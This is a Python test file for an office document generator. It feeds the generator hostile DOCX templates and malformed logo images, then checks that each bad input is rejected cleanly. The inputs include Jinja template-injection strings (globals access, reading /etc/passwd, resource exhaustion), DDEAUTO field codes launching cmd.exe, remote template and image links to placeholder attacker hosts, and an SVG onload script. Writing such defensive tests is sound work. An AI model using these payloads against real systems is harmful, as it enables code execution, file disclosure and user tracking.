"""Hostile templates and logos of an office, through the command: each withholds its own kind, no other."""

import shutil
import struct
import time
import zlib
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.product.exemple import ROOT, classeurs, produire
from tests.product.test_pieges import payloads
from tests.render.test_active import field, made

# Those of which the example has documents to make.
KINDS = (
    *("attestation", "calendrier", "contrat", "convention", "devis", "emargement", "facture"),
    "synthese",
)
EXPRESSIONS = (
    "{{ ''.__class__.__mro__ }}",
    "{{ document.__init__.__globals__ }}",
    "{{ ''|attr('__class__') }}",
    "{{ cycler.__init__.__globals__.os }}",
    "{{ lipsum(n=100000) }}",
    "{{ self.__dict__ }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'autre.docx' %}",
    "{{ 'x' * 10**10 }}",
    "{{ 9**(9**9) }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{{ [0] * 10**10 }}",
    "{{ '%1000000000d'|format(1) }}",
    "{{ 'a'.ljust(10**10) }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{{ inconnu.champ }}",
    "{{ document",
    "{% for x in %}{% endfor %}",
    "{% if %}",
    "{{ document.numero | inconnu }}",
    "{{ namespace(a=1).a.b.c }}",
)
FIELDS = (
    field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '),
    field(" DD", "E", "AUTO cmd "),
    field(' INCLUDEPICTURE "http://traceur.exemple/{{ document.numero }}.png" \\d '),
    field(' INCLUDETEXT "\\\\\\\\serveur\\\\partage\\\\x.docx" '),
    field(" LINK Excel.Sheet x "),
    field(" MACROBUTTON X y "),
    field(" dde cmd "),
)
LINKS = (
    ("image", "http://traceur.exemple/p.png"),
    ("oleObject", "\\\\evil\\share\\x.doc"),
    ("aFChunk", "chunk.html"),
    ("subDocument", "autre.docx"),
    ("attachedTemplate", "http://evil.exemple/m.dotm"),
    ("vbaProject", "vbaProject.bin"),
    ("frame", "http://evil.exemple/"),
)
DAMAGES = (
    "vide",
    "texte",
    "coupe-50",
    "coupe-90",
    "bzip2",
    "lzma",
    "entites",
    "profond",
    "non-ferme",
    "utf8",
)


def templates() -> list[bytes]:
    """Every hostile template."""
    damaged = dict(
        payloads((ROOT / "templates" / "docx" / "devis.docx").read_bytes(), "word/document.xml", 5)
    )
    said = (f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in EXPRESSIONS)
    part = {"attachedTemplate": "word/settings.xml"}
    return [
        *(made(body) for body in said),
        *(made(body) for body in FIELDS),
        *(made("", (kind, to), part=part.get(kind, "word/document.xml")) for kind, to in LINKS),
        *(damaged[name] for name in DAMAGES),
        *(made(text * 30_000) for text in ("<w:p>{{</w:p>", "<w:p><w:r><w:t>{%</w:t></w:r></w:p>")),
        *(
            made(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
            for text in ("{{ " * 100_000, "{{ 1" + "+1" * 20_000)
        ),
    ]


ROUNDS = range(0, 50, len(KINDS))


def test_there_are_fifty_hostile_templates_and_twenty_five_logos() -> None:
    assert len(templates()) >= 50
    assert len(logos()) >= 25


@pytest.mark.parametrize(
    "first",
    [
        pytest.param(first, marks=pytest.mark.epreuve if first == ROUNDS[1] else pytest.mark.epreuve_longue)
        for first in ROUNDS
    ],
)
def test_each_template_withholds_its_own_kind_only(tmp_path: Path, first: int) -> None:
    inputs = classeurs(tmp_path / "inputs")
    (inputs / "modeles").mkdir()
    hostile = dict(zip(KINDS, templates()[first : first + len(KINDS)], strict=False))
    for kind, data in hostile.items():
        (inputs / "modeles" / f"{kind}.docx").write_bytes(data)
    start = time.monotonic()
    done = produire(inputs, tmp_path / "outputs")
    assert time.monotonic() - start < 110
    assert done.code == 1
    assert "Traceback" not in done.console
    assert not list((tmp_path / "outputs").glob("incident-*"))
    statuses = {(line["kind"], line["status"]) for line in done.rapport["documents"]}
    assert [kind for kind in hostile if (kind, "fait") in statuses] == []
    assert [kind for kind in hostile if (kind, "retenu") not in statuses] == []
    assert list((tmp_path / "outputs" / "calendriers").glob("*.ics")), "what has no template is made"


def logos() -> dict[str, bytes]:
    """Every unusable logo, by the name of its file."""
    sound = _png(1, 1)
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">2H", 10, 10) + b"\x03" + b"\x01\x22\x00" * 3
    flipped = bytearray(sound)
    flipped[40] ^= 0xFF
    return {
        "vide.png": b"",
        "texte.png": b"ceci n'est pas une image",
        "gif.png": b"GIF89a" + b"\0" * 40,
        "svg.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "pdf.png": b"%PDF-1.7",
        "zip.png": b"PK\x03\x04" + b"\0" * 40,
        "signe.png": sound[:8],
        "coupe-20.png": sound[:20],
        "coupe-40.png": sound[:40],
        "sans-fin.png": sound[:-12],
        "crc.png": bytes(flipped),
        "zero.png": _png(0, 1),
        "zero-haut.png": _png(1, 0),
        "geante.png": _png(100_000, 100_000),
        "longue.png": _png(2_000_000_000, 1),
        "morceau.png": sound[:8] + struct.pack(">L", 0xFFFFFFFF) + b"IHDR" + b"\0" * 30,
        "sans-entete.png": sound[:8] + sound[33:],
        "bruit.png": sound[:8] + bytes(range(256)) * 4,
        "sans-cadre.jpg": jpeg + b"\xff\xd9",
        "vide.jpg": b"\xff\xd8\xff\xd9",
        "coupe.jpg": jpeg + frame[:9],
        "zero.jpg": jpeg
        + frame.replace(struct.pack(">2H", 10, 10), b"\0\0\0\0")
        + b"\xff\xda\0\x02\0\xff\xd9",
        "sans-image.jpg": jpeg + frame,
        "ff.jpg": b"\xff\xd8" + b"\xff" * 4000,
        "longueur.jpg": b"\xff\xd8\xff\xe0\x00\x00" + b"\0" * 50,
        "absente.png": b"",
    }


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0" * 4)) + chunk(b"IEND", b"")


@pytest.mark.epreuve
def test_each_logo_is_named_at_its_cell_and_stops_nothing(tmp_path: Path) -> None:
    inputs = classeurs(tmp_path / "inputs")
    (inputs / "logos").mkdir()
    book = load_workbook(inputs / "exemple.xlsx")
    sheet = book["Organismes"]
    heads = [str(cell.value).rstrip(" *") for cell in sheet[1]]
    first = [cell.value for cell in sheet[2]]
    for rank, (name, data) in enumerate(logos().items()):
        if name != "absente.png":
            (inputs / "logos" / name).write_bytes(data)
        row = dict(zip(heads, first, strict=True)) | {"Code": f"PIEGE{rank}", "Logo": f"logos/{name}"}
        sheet.append([row[head] for head in heads])
    book.save(inputs / "agents.xlsx")
    (inputs / "exemple.xlsx").unlink()
    shutil.move(inputs / "conseiller" / "exemple.xlsx", inputs / "conseiller" / "entretiens.xlsx")
    done = produire(inputs, tmp_path / "outputs")
    assert "Traceback" not in done.console
    told = [issue for issue in done.rapport["issues"] if issue["code"] == "logo-inutilisable"]
    named = " ".join(issue["message"] for issue in told)
    assert [name for name in logos() if f"logos/{name}" not in named] == []
    assert all(issue["cell"] for issue in told)
    assert len(list((tmp_path / "outputs" / "conventions").glob("*.docx"))) > 20
